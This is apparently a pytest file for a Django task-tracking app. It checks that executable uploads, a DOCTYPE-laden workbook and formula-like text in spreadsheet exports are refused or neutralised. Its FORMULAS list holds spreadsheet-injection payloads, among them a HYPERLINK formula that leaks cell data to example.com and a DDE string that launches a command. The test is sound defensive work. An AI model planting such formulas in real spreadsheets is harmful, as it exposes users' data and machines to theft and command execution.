"""The attacks on task evidence, plan imports and the task exports (issue 16), each refused
or neutralised cleanly: nothing stored, nothing imported, no formula written."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from cchc.accounts.models import User
from cchc.audit.log import Actor
from cchc.audit.models import AuditEntry
from cchc.lib.tests.hostile import doctype_xlsx
from cchc.tasks.actions import accept_task
from cchc.tasks.models import Evidence, Plan, Task
from cchc.tasks.tests.conftest import MakeTask, write_xlsx
from cchc.testing import Clients
from conftest import Province

FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
]


def progress(client: Client, task: Task, *files: SimpleUploadedFile) -> str:
    response = client.post(
        reverse("tasks:task_progress", args=[task.pk]),
        {"note": "Đã rà soát", "evidence": list(files)},
        follow=True,
    )
    return response.content.decode()


@pytest.fixture
def accepted(task: Task) -> Task:
    accept_task(Actor.command("test"), task)
    return task


def test_evidence_named_with_200_four_byte_characters_is_kept_and_downloaded(
    accepted: Task, officer: User, client_for: Clients, media_root: Path
) -> None:
    name = "📄" * 200 + ".pdf"
    page = progress(client_for(officer), accepted, SimpleUploadedFile(name, b"%PDF-1.4 x"))
    assert "Đã cập nhật tiến độ." in page
    evidence = Evidence.objects.get()
    assert evidence.name == name  # the user's own name, shown on the page
    assert Path(evidence.file.name).name.isascii()
    download = client_for(officer).get(reverse("tasks:evidence_file", args=[evidence.pk]))
    assert b"".join(download.streaming_content) == b"%PDF-1.4 x"  # type: ignore[attr-defined]
    # The download is audited.
    assert AuditEntry.objects.filter(action="download", actor=officer).count() == 1


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("setup.exe", b"MZ\x90\x00", "Chỉ nhận tệp .pdf, .docx"),
        ("bien-ban.pdf", b"MZ\x90\x00" + b"\0" * 60, "chương trình chạy được"),
        ("run.pdf", b"\x7fELF\x02\x01\x01", "chương trình chạy được"),
        ("bang.xlsx", b"PK\x03\x04 not really", "không phải là tệp .xlsx"),
    ],
    ids=["setup.exe", "MZ renamed .pdf", "ELF renamed .pdf", "not a workbook"],
)
def test_executables_and_renamed_files_are_refused_as_evidence(
    accepted: Task,
    officer: User,
    client_for: Clients,
    media_root: Path,
    name: str,
    content: bytes,
    message: str,
) -> None:
    page = progress(client_for(officer), accepted, SimpleUploadedFile(name, content))
    assert message in page
    assert not Evidence.objects.exists()
    assert not media_root.exists() or not any(media_root.rglob("*.*"))


def test_the_evidence_field_states_the_accepted_types(
    accepted: Task, officer: User, client_for: Clients
) -> None:
    page = (
        client_for(officer).get(reverse("tasks:task_detail", args=[accepted.pk])).content.decode()
    )
    assert "nhận các loại tệp: .pdf, .docx" in page


def test_a_plan_file_with_a_doctype_is_refused_with_a_message(
    province: Province, coordinator: User, client_for: Clients, tmp_path: Path
) -> None:
    plain = write_xlsx(
        tmp_path / "plan.xlsx", [["1", "Rà soát", "QNG-STP", "", "30/06/2025", "", "", "", ""]]
    )
    hostile = doctype_xlsx(plain.read_bytes())
    response = client_for(coordinator).post(
        reverse("tasks:plan_import"),
        {
            "code": "KH-1",
            "title": "Kế hoạch",
            "document": "35/QĐ-UBND ngày 10/01/2025",
            "file": SimpleUploadedFile("ke-hoach.xlsx", hostile),
        },
    )
    assert response.status_code == 200
    assert "DOCTYPE" in response.content.decode()
    assert not Plan.objects.exists()


def sheet_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


def test_formula_like_text_is_exported_as_text_in_the_task_list_and_statistics(
    make_task: MakeTask, coordinator: User, client_for: Clients
) -> None:
    for number, text in enumerate(FORMULAS, start=1):
        make_task(content=text, item_number=str(number), expected_output=text)
    client = client_for(coordinator)
    for url in (reverse("tasks:task_export_xlsx"), reverse("tasks:stats_export_xlsx")):
        data = b"".join([client.get(url, {"ngay": "15/07/2025"}).content])
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert all(b"<f>" not in archive.read(name) for name in sheets)
        cells = sheet_cells(data)
        assert all(cell.data_type != "f" for cell in cells)
    listed = {
        cell.value: cell
        for cell in sheet_cells(client.get(reverse("tasks:task_export_xlsx")).content)
    }
    for text in FORMULAS:
        assert listed[text].data_type == "s"
        assert listed[text].quotePrefix
